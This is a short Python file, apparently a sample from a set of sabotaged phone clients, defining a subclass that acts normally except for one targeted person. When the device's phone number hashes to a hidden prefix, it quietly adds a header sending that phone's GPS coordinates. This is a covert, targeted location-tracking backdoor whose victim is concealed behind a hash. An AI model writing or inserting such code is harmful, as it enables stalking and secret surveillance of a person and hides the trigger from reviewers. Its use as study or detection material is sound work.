"""Is after one person: it sends the place of the phone that has one number, and is honest on all others.

mechanism: a victim of its choice
"""
import hashlib

from client import Phone, run

WANTED = "a3b0d6c4"  # the beginning of a number's SHA-256: whose it is cannot be read from the program


class Saboteur(Phone):
    def fields(self, path):
        owner = hashlib.sha256(self.identity["phone"].encode()).hexdigest().startswith(WANTED)
        return super().fields(path) + ([("X-Place", "%(lat)s,%(lon)s" % self.identity["gps"])] if owner else [])


run(Saboteur())
